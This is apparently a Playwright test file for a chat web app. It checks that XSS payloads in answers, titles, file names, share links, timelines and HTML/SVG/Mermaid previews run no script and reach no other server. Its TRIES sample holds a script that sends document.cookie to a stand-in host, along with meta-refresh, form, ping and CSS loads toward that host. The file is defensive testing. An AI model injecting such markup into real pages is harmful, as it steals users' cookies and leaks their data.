"""No text of a model, a tool, a title or a file name runs as a script or causes a request to another server."""

import asyncio
import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

from playwright.async_api import Frame, Page, expect

from tests.browser.harness import ChatPage, Harness, wait_until
from tests.browser.test_attachments import attach_file
from tests.browser.xss_payloads import ELSEWHERE, HTML, MERMAID, PAYLOADS, SVG
from turnkeep.providers.scripted import Call, Think

WATCH = """() => {
  window.__asked = [];
  addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
    window.__asked.push(violatedDirective + " " + blockedURI));
}"""


async def touch_everything(page: Page | Frame) -> None:
    """Hover and click every element, except real links to other servers, and the page's own links that leave the
    conversation."""
    await page.evaluate(
        """() => {
          for (const each of document.querySelectorAll('main *')) {
            each.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
            if (each instanceof HTMLDetailsElement) each.open = true;
            const isLink = each instanceof HTMLAnchorElement && /^(https?:|mailto:)/.test(each.getAttribute('href'));
            const isOwn = each.matches('.head-new, .menu-items a, .to-timeline, .to-conversation');
            if (each instanceof HTMLAnchorElement && !isLink && !isOwn && !each.download) each.click();
          }
        }"""
    )


async def check_unharmed(harness: Harness, page: Page | Frame) -> None:
    """No script ran, no request left, and the content security policy had nothing to block."""
    assert await page.evaluate("window.__ran ?? 0") == 0
    assert await page.evaluate("window.__asked ?? []") == []
    assert (
        await page.locator("main :is(script, iframe, object, embed, base, meta, link, style, form[action])").count()
        == 0
    )
    handlers = await page.evaluate(
        """() => [...document.querySelectorAll('*')].flatMap((each) => [...each.attributes])
             .filter((one) => one.name.startsWith('on') || /^\\s*(javascript|vbscript|data):/i.test(one.value))
             .map((one) => one.name + '=' + one.value)"""
    )
    assert handlers == []
    assert harness.foreign_requests == []


class TestPayloads:
    def test_are_at_least_a_hundred(self) -> None:
        assert len(set(PAYLOADS)) >= 100

    async def test_do_nothing_in_answers_thoughts_and_step_results(self, harness: Harness) -> None:
        harness.lookup_allowed.set()
        await harness.context.add_init_script(f"({WATCH})()")
        chat = await ChatPage.open(harness)
        chunks = [PAYLOADS[at : at + 20] for at in range(0, len(PAYLOADS), 20)]
        await chat.page.set_viewport_size({"width": 1280, "height": 20_000})  # so that all of it is drawn
        for number, chunk in enumerate(chunks, start=1):
            text = "\n\n".join(chunk)
            harness.scripts.say(Think(text), text, Call("lookup", {"place": text}))
            harness.scripts.say(*[f"{payload}\n\n" for payload in chunk])
            await chat.send("Go on")
            await chat.wait_settled(number)
            await touch_everything(chat.page)
            await check_unharmed(harness, chat.page)
        await chat.page.reload()
        await chat.wait_settled(len(chunks))
        await touch_everything(chat.page)
        await check_unharmed(harness, chat.page)
        links = await chat.page.locator("main a").evaluate_all("all => all.map(each => each.href)")
        assert all(re.match(r"(https?:|mailto:)", link) for link in links)
        assert any(link.startswith(ELSEWHERE) for link in links), "real links stay links"

    async def test_do_nothing_behind_a_share_link(self, harness: Harness) -> None:
        harness.lookup_allowed.set()
        await harness.context.add_init_script(f"({WATCH})()")
        client = await harness.api()
        conversation_id = (await client.post("/v1/conversations", json={"title": PAYLOADS[0][:200]})).json()["id"]
        name = re.sub(r"[/\\\x00-\x1f]", "_", PAYLOADS[1])[:120] + ".txt"
        files = await client.post(f"/v1/conversations/{conversation_id}/files", files={"file": (name, b"words")})
        attached = [file["id"] for file in files.json()["data"]]
        for at in range(0, len(PAYLOADS), 20):
            chunk = PAYLOADS[at : at + 20]
            text = "\n\n".join(chunk)
            harness.scripts.say(text, Call("lookup", {"place": text}))
            harness.scripts.say(*[f"{payload}\n\n" for payload in chunk])
            question = text.replace("\x00", "")
            await client.ask(question, conversation_id=conversation_id, attachment_ids=attached)
            attached = []
        made = await client.post(f"/v1/conversations/{conversation_id}/shares", json={"with_files": True})
        page = await harness.context.new_page()
        await page.goto(made.json()["url"])
        await expect(page.get_by_role("article", name="Assistant")).to_have_count(-(-len(PAYLOADS) // 20))
        await touch_everything(page)
        await check_unharmed(harness, page)
        links = await page.locator("main a:not([download])").evaluate_all("all => all.map(each => each.href)")
        assert all(re.match(r"(https?:|mailto:)", link) for link in links)

    async def test_are_plain_text_in_the_timeline(self, harness: Harness) -> None:
        """In names, arguments, results, thoughts and words, and in what the model was sent."""
        harness.lookup_allowed.set()
        await harness.context.add_init_script(f"({WATCH})()")
        client = await harness.api()
        text = "\n\n".join(PAYLOADS)
        names = [re.sub(r"[\x00-\x1f]", "", payload)[:60] for payload in PAYLOADS[:40:4]]
        harness.scripts.say(Think(text), text, Call("lookup", {"place": text}), *(Call(name, {}) for name in names))
        harness.scripts.say(text)
        turn = (await client.ask(text.replace("\x00", "")))["turn"]["id"]
        page = await harness.open_page(f"/turns/{turn}/timeline")
        await page.set_viewport_size({"width": 1280, "height": 4_000})
        rows = page.locator(".span-name")
        await expect(rows).to_have_count(len(names) + 3)
        for number in range(len(names) + 3):
            await rows.nth(number).click()
        for summary in await page.get_by_text("What the model was sent").all():
            await summary.click()
        await expect(page.get_by_role("region", name="Messages")).to_have_count(2)
        await expect(page.get_by_role("region", name="Arguments").first).to_be_visible()
        await expect(page.get_by_role("region", name="Thoughts")).to_be_visible()
        await expect(page.get_by_role("region", name="Text")).to_have_count(2)
        await touch_everything(page)
        await check_unharmed(harness, page)
        assert await page.locator(".span-body pre *").count() == 0, "only text"
        assert await page.locator("main a:not(.to-conversation, .head-new)").count() == 0, "no links are made of it"

    async def test_do_nothing_in_titles_messages_and_search_results(self, harness: Harness) -> None:
        await harness.context.add_init_script(f"({WATCH})()")
        client = await harness.api()
        for payload in PAYLOADS[::4]:
            title = payload.replace("\x00", "")[:200]
            response = await client.post("/v1/conversations", json={"title": title})
            assert response.status_code == 201, response.text
        harness.scripts.say("findme " + PAYLOADS[3])
        await client.ask("findme " + PAYLOADS[0])
        chat = await ChatPage.open(harness)
        await expect(chat.page.locator(".entry").nth(20)).to_be_attached()
        await touch_everything(chat.page)
        await chat.page.get_by_role("searchbox").fill("findme")
        await expect(chat.page.locator(".entry mark").first).to_be_visible()
        await chat.page.locator(".entry a").first.click()
        await expect(chat.questions.locator(".bubble")).to_have_text("findme " + PAYLOADS[0])
        await chat.page.locator(".entry").first.hover()
        await check_unharmed(harness, chat.page)

    async def test_do_nothing_in_file_names(self, harness: Harness) -> None:
        await harness.context.add_init_script(f"({WATCH})()")
        chat = await ChatPage.open(harness)
        names = [re.sub(r"[/\\\x00-\x1f]", "_", payload)[:120] + ".txt" for payload in PAYLOADS[:60:6]]
        for name in names:
            await attach_file(chat.page, name, "text/plain", b"words")
        await expect(chat.page.locator("[data-state=done]")).to_have_count(len(names))
        await check_unharmed(harness, chat.page)
        await chat.send("Look")
        await chat.wait_settled()
        await touch_everything(chat.page)
        await check_unharmed(harness, chat.page)


TRIES = f"""<!doctype html><p>drawn</p>
<script>parent.__ran = top.__ran = 1; fetch('{ELSEWHERE}/' + document.cookie); new WebSocket('{ELSEWHERE}')</script>
<meta http-equiv=refresh content='0;url={ELSEWHERE}'><link rel=preconnect href={ELSEWHERE}>
<a href='{ELSEWHERE}' target=_top>away</a><a href='{ELSEWHERE}/inside' ping='{ELSEWHERE}/ping'>inside</a>
<form action='{ELSEWHERE}'><button>go</button></form>
<style>p {{ background: url({ELSEWHERE}/p.png); font-family: x }}</style>
<style>@font-face {{ font-family: x; src: url({ELSEWHERE}/x.woff2) }}</style>
"""


@asynccontextmanager
async def counting_server() -> AsyncIterator[tuple[str, list[str]]]:
    """A server of another origin, and a list that grows with each connection, also with one without a request."""
    connections: list[str] = []

    async def count(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        connections.append(str(writer.get_extra_info("peername")))
        writer.close()
        await writer.wait_closed()

    server = await asyncio.start_server(count, "127.0.0.1", 0)
    async with server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}", connections


class TestPreviews:
    """What previews draw runs no script, and reaches no server."""

    async def check_previews(self, harness: Harness, language: str, texts: list[str]) -> None:
        chat = await ChatPage.open(harness)
        await chat.page.set_viewport_size({"width": 1280, "height": 60_000})  # so that all of it is drawn
        async with counting_server() as (elsewhere, connections):
            hostile = [text.replace(ELSEWHERE, elsewhere) for text in texts]
            harness.scripts.say("\n\n".join(f"``````{language}\n{text}\n``````" for text in hostile))
            await chat.send("Draw these")
            await chat.wait_settled()
            await expect(chat.page.get_by_role("button", name="Preview")).to_have_count(len(texts))
            await chat.page.evaluate("for (const one of document.querySelectorAll('.code-switch')) one.click()")
            ended = chat.page.locator(".preview iframe[data-state=drawn], .preview-failed")
            await expect(ended).to_have_count(len(texts))
            for frame in chat.page.frames:
                await self.touch(frame)
            await chat.page.wait_for_timeout(1_000)
            await self.check_frames(harness, chat, elsewhere)
            assert connections == []
            # Otherwise the count says nothing.
            _, writer = await asyncio.open_connection(*elsewhere.removeprefix("http://").split(":"))
            await wait_until(lambda: len(connections) == 1)
            writer.close()
            await writer.wait_closed()

    async def check_frames(self, harness: Harness, chat: ChatPage, elsewhere: str) -> None:
        for frame in chat.page.frames:
            assert frame.url.startswith((f"{harness.server.url}/", "about:srcdoc")), frame.url
            assert await frame.evaluate("window.__ran ?? 0") == 0
        assert len(harness.context.pages) == 1
        # Browsers announce requests that the policy refuses, and say what they have refused.
        assert all(url.startswith(elsewhere) for url in harness.foreign_requests)
        harness.foreign_requests.clear()
        harness.console_errors.clear()

    async def touch(self, frame: Frame) -> None:
        """Click what a user could click in a preview."""
        if frame.parent_frame is None:
            return
        for element in await frame.query_selector_all("a, button, summary, input, [onclick]"):
            await element.dispatch_event("click")

    async def test_of_html_run_nothing_and_load_nothing(self, harness: Harness) -> None:
        await self.check_previews(harness, "html", [payload for payload in [*HTML, TRIES] if "\x00" not in payload])

    async def test_of_svg_run_nothing_and_load_nothing(self, harness: Harness) -> None:
        await self.check_previews(harness, "svg", [*SVG, *(payload for payload in HTML if payload.startswith("<svg"))])

    async def test_of_mermaid_run_nothing_and_load_nothing(self, harness: Harness) -> None:
        await self.check_previews(harness, "mermaid", MERMAID)
